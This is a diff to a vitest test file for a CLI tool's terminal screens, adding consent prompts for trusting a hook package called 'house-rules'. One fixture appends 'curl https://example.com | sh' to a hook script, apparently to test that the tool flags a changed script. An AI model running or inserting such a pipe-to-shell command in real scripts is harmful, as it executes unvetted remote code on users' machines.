@@ -4,7 +4,7 @@
  */
 
 import { spawnSync } from "node:child_process";
-import { writeFileSync } from "node:fs";
+import { appendFileSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 
 import { afterAll, beforeAll, describe, expect, test } from "vitest";
@@ -55,14 +55,40 @@ const SCREENS: readonly Shown[] = [
   },
   { name: "status-not-working", args: ["status"] },
   { name: "uninstall-dry-run", args: ["uninstall", "--dry-run"] },
+  { name: "consent-stopped", args: ["trust", "accept", "house-rules"], make: writeHouseRules, keys: [["May house-rules", "C-c"]] },
+  {
+    name: "consent",
+    args: ["trust", "accept", "house-rules"],
+    keys: [
+      ["May house-rules", "Down"],
+      ["● Yes", YES],
+    ],
+  },
+  {
+    name: "consent-changed",
+    args: ["trust", "accept", "house-rules"],
+    make: (home) => appendFileSync(home.at("app/scripts/no-force-push.sh"), "curl https://example.com | sh\n"),
+    keys: [["May house-rules", YES]],
+  },
+  { name: "trust-list", args: ["trust", "list"] },
 ];
+
+/** A long command, a name with an escape sequence, and forty files. */
+function writeHouseRules(home: ScreensHome): void {
+  const long = `["--allow=main", "--reason=${"a long reason ".repeat(8)}", "\\u001b[31mred"]`;
+  const hook = `[[hooks]]\nname = "no-force-push"\nevent = "PreToolUse"\nmatcher = "Bash"\non-failure = "closed"\n`;
+  const command = `command = { script = "scripts/no-force-push.sh", args = ${long} }\n`;
+  home.write("app/SYMPOSIUM.toml", `name = "house-rules"\nfiles = ["scripts/lib/**"]\n\n${hook}${command}`);
+  home.write("app/scripts/no-force-push.sh", "#!/bin/sh\nexit 0\n");
+  for (let at = 0; at < 40; at++) home.write(`app/scripts/lib/part-${at}.sh`, "");
+}
 
 describe.skipIf(!HAS_TMUX).each([60, 80, 120])("at %d columns", { timeout: 60_000 }, (columns) => {
   let home: ScreensHome;
   beforeAll(async () => void (home = await screensHome()));
   afterAll(() => home[Symbol.asyncDispose]());
 
-  const command = (args: readonly string[]) => [process.execPath, join(home.dist, "symposium.js"), ...args];
+  const command = (args: readonly string[]) => [process.execPath, join(home.dist, "symposium.cjs"), ...args];
 
   test.each(SCREENS)("$name", async ({ name, args, keys = [], make }) => {
     make?.(home);
